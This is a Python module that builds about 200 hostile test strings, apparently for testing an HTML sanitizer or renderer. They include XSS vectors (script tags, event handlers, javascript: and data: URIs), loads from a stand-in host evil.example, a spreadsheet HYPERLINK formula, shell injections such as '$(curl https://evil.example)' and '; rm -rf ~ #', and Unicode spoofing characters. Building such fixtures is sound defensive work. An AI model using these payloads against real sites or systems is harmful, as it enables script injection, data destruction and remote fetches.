"""Texts that would run a script, load something or deceive a reader if they were more than text."""

_CALL = "globalThis.hostile=1"
_TAGS = (
    "<script>{call}</script>",
    "</script><script>{call}</script>",
    "<img src=x onerror={call}>",
    "<img src=https://evil.example/x.png>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<iframe src=javascript:{call}>",
    "<iframe srcdoc='<script>parent.{call}</script>'>",
    "<body onload={call}>",
    "<details open ontoggle={call}>",
    "<input autofocus onfocus={call}>",
    "<video><source onerror={call}>",
    "<audio src=x onerror={call}>",
    "<math><mtext><img src=x onerror={call}>",
    "<a href='javascript:{call}'>x</a>",
    "<a href='data:text/html,<script>{call}</script>'>x</a>",
    "<form action=https://evil.example><button>x</button></form>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<object data=https://evil.example/x>",
    "<embed src=https://evil.example/x>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<!--><img src=x onerror={call}>-->",
    "<![CDATA[<img src=x onerror={call}>]]>",
    "<xss style=animation-name:x onanimationend={call}>",
    "<marquee onstart={call}>",
)
_BREAKS = ("{tag}", '">{tag}', "'>{tag}", "</title>{tag}", "</textarea>{tag}", "&lt;{tag}")
_OTHERS = (
    "javascript:{call}",
    "java\u200bscript:{call}",
    "&#x3c;script&#x3e;{call}&#x3c;/script&#x3e;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "%3Cscript%3E{call}%3C/script%3E",
    "${{{call}}}",
    "{{{{{call}}}}}",
    "`;{call};`",
    "';{call};//",
    '";{call};//',
    "\u202e<tpircs>",
    "\u2066admin\u2069",
    "__proto__",
    "constructor",
    "=HYPERLINK('https://evil.example')",
    "$(curl https://evil.example)",
    "; rm -rf ~ #",
    "' ; echo '",
    "e\u0301" * 40,
    "\U0001f9d1\u200d\U0001f4bb" * 20,
)


def hostile_strings() -> list[str]:
    """At least 200 different texts, none of which has a control character."""
    tags = [pattern.format(tag=tag.format(call=_CALL)) for tag in _TAGS for pattern in _BREAKS]
    return tags + [other.format(call=_CALL) for other in _OTHERS]
